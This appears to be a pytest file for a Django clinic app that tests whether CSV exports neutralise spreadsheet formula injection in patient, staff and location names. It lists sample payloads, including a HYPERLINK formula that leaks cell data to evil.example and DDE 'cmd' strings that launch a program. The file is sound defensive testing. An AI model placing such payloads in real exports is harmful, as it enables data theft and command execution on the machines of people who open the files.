"""What leaves the app in files: an attacker's attempts to make an export run code.

A patient (or anyone who can type a name, a location or a staff member's name) who writes
`=HYPERLINK("http://…")` must not get a live formula into the spreadsheet of the manager who
opens the export. Every CSV goes through one writer that neutralises cells beginning with
`=`, `+`, `-`, `@`, tab or carriage return (OWASP: a leading single quote), while real numbers,
negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import pathlib

import pytest
from django.urls import reverse

from clinic import exports
from clinic.audit import record_access
from clinic.models import Location, User
from tests.booking.conftest import clinic  # noqa: F401 (a fixture the results need)
from tests.booking.test_results_dashboard import data  # noqa: F401 (a fixture: seven courses)
from tests.factories import PatientFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_gets_a_leading_quote(text):
    assert exports.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, "", "Jordan Miles", "2026-05-01", None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert exports.neutralised(value) == value


@pytest.mark.parametrize("text", FORMULAS)
def test_a_patient_named_like_a_formula_is_inert_in_the_access_log_export(
    login, manager, front_desk, location, text
):
    patient = PatientFactory(first_name=text, last_name="Miles", locations=[location])
    record_access(actor=front_desk, patient=patient, record=patient)
    response = login(manager).get(
        reverse("clinic:access_log"), {"patient": patient.pk, "format": "csv"}
    )
    header, *rows = _rows(response)
    names = {row[header.index("patient")] for row in rows}
    assert names == {f"'{text} Miles"}


def test_a_staff_email_like_a_formula_is_inert_in_the_access_log_export(
    login, manager, patient, location
):
    sneaky = User.objects.create_user(
        email="=cmd@example.org", password="x" * 20, role="front_desk", first_name="S"
    )
    record_access(actor=sneaky, patient=patient, record=patient)
    header, *rows = _rows(login(manager).get(reverse("clinic:access_log"), {"format": "csv"}))
    staff = {row[header.index("staff or user")] for row in rows}
    assert "'=cmd@example.org" in staff
    assert "=cmd@example.org" not in staff


def test_names_like_formulas_are_inert_in_the_results_export(
    login,
    manager,
    data,  # noqa: F811
    location,
    practitioner,
):
    Location.objects.filter(pk=location.pk).update(name=FORMULAS[0])
    User.objects.filter(pk=practitioner.user.pk).update(first_name="@SUM(1)", last_name="x")
    header, *rows = _rows(login(manager).get(reverse("booking:reports_csv")))
    names = [row[header.index("name")] for row in rows if row[0] != "total"]
    assert names and all(name.startswith("'") for name in names), names


def test_the_outcomes_export_quotes_a_formula_but_keeps_negative_numbers(
    login,
    manager,
    data,  # noqa: F811
    location,
):
    Location.objects.filter(pk=location.pk).update(name=FORMULAS[1])
    header, *rows = _rows(login(manager).get(reverse("booking:outcomes_csv")))
    assert {row[header.index("location")] for row in rows} == {"'" + FORMULAS[1]}
    changes = sorted(row[header.index("first_step_change")] for row in rows)
    assert changes == ["", "", "-1", "-2", "-3", "-4", "0"]


def test_every_csv_the_app_writes_goes_through_the_shared_writer():
    """A new export must not write its own CSV: the neutralising is in one place."""
    root = pathlib.Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for app in ("clinic", "intake", "booking")
        for path in (root / app).rglob("*.py")
        if "csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text
    ]
    assert writers == ["clinic/exports.py"]
